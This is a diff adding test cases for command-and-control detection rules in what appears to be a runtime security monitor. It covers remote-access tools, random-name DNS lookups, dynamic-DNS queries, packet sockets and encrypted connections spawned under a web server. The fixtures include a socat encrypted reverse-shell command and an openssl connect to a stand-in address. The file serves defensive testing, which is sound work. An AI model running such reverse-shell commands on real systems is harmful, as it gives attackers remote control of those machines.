@@ -1,6 +1,6 @@
 import type { TestProcess } from '@ringfence/testkit';
-import { asksFor } from './packets.ts';
-import { NOBODY, type Scene, testContent } from './support.ts';
+import { asksFor, nobodyHas } from './packets.ts';
+import { NOBODY, type Scene, testContent, underWebServer } from './support.ts';
 
 const started = (words: string) => (s: Scene) => s.start(words);
 
@@ -25,6 +25,13 @@ function texts(s: Scene, by: string, count: number, type: string): void {
 const raw = (by: string, protocol: number) => (s: Scene) => s.socket(s.start(by), { type: 3, protocol });
 const listen = (by: string, address: string) => (s: Scene) =>
   s.socket(s.start(by), { operation: 3, result: 0, port: 4444, address: Buffer.from(address.split('.').map(Number)) });
+
+/** AF_PACKET, SOCK_RAW, ETH_P_ALL */
+const PACKETS = { family: 17, type: 3, protocol: 768 };
+
+function strangers(s: Scene, process: TestProcess, count: number, name?: string): void {
+  for (let n = 0; n < count; n++) nobodyHas(s, process, `${name ?? `x${n}`}.example`);
+}
 
 testContent('tunnels.yaml', {
   'Answers taken from DNS texts': {
@@ -145,5 +152,69 @@ testContent('tunnels.yaml', {
     as: 'warning command-and-control T1571',
     fires: { 'of everybody': listen('/tmp/x', '0.0.0.0') },
     quiet: { 'of itself': listen('/tmp/x', '127.0.0.1'), 'a server': listen('/usr/sbin/nginx', '0.0.0.0') },
+  },
+  'Tool for access from afar started': {
+    as: 'notice command-and-control T1219.002 T1219.001',
+    fires: {
+      tmate: (s) => s.start('/usr/bin/tmate -F'),
+      "an editor's tunnel": (s) => s.start('/usr/bin/code tunnel --accept-server-license-terms'),
+    },
+    quiet: {
+      'a service that is installed': (s) => s.start('/usr/bin/anydesk --service', s.init),
+      'an editor': (s) => s.start('/usr/bin/code .'),
+    },
+  },
+  "Tool for access from afar started by a server's command": {
+    as: 'error command-and-control T1219.002',
+    fires: {
+      'under a web server': (s) => s.start('/usr/bin/tmate -F', ...underWebServer(s)),
+    },
+    quiet: {
+      'by a person': (s) => s.start('/usr/bin/tmate -F'),
+      'another program': (s) => s.start('/usr/bin/tmux new', ...underWebServer(s)),
+    },
+  },
+  "Names that don't exist asked again and again": {
+    as: 'warning command-and-control T1568.002',
+    fires: {
+      'made-up names': (s) => strangers(s, s.start('/tmp/x'), 40),
+    },
+    quiet: {
+      'thirty-nine': (s) => strangers(s, s.start('/tmp/x'), 39),
+      'a resolver': (s) => strangers(s, s.start('/usr/sbin/unbound', s.init), 100),
+      'the same name': (s) => strangers(s, s.start('/tmp/x'), 100, 'same'),
+    },
+  },
+  'Name of a service for changing addresses asked for': {
+    as: 'notice command-and-control T1568',
+    fires: {
+      'a program of nobody': (s) => asksFor(s, s.start('/tmp/x'), 'evil.duckdns.org'),
+    },
+    quiet: {
+      'a browser that is installed': (s) => asksFor(s, s.start('/usr/bin/firefox'), 'nas.duckdns.org'),
+      'another name': (s) => asksFor(s, s.start('/tmp/x'), 'www.example.org'),
+    },
+  },
+  'Packet socket of a stranger': {
+    as: 'warning command-and-control stealth persistence T1205.002',
+    fires: {
+      'a program in /dev/shm': (s) => s.socket(s.start('/dev/shm/kdmtmpflush'), PACKETS),
+    },
+    quiet: {
+      tcpdump: (s) => s.socket(s.start('/usr/bin/tcpdump -i eth0'), PACKETS),
+      'it may not': (s) => s.socket(s.start('/tmp/x'), { ...PACKETS, result: -1 }),
+      'an echo': (s) => s.socket(s.start('/tmp/x'), { family: 2, type: 3, protocol: 1 }),
+    },
+  },
+  "Encrypted connection opened by a server's command": {
+    as: 'error command-and-control T1573.002',
+    fires: {
+      openssl: (s) => s.start('/usr/bin/openssl s_client -quiet -connect 203.0.113.9:443', ...underWebServer(s)),
+      socat: (s) => s.start('/usr/bin/socat EXEC:sh OPENSSL:203.0.113.9:443', ...underWebServer(s)),
+    },
+    quiet: {
+      'an administrator': (s) => s.start('/usr/bin/openssl s_client -connect web-1:443'),
+      'a hash': (s) => s.start('/usr/bin/openssl dgst -sha256 x', ...underWebServer(s)),
+    },
   },
 });
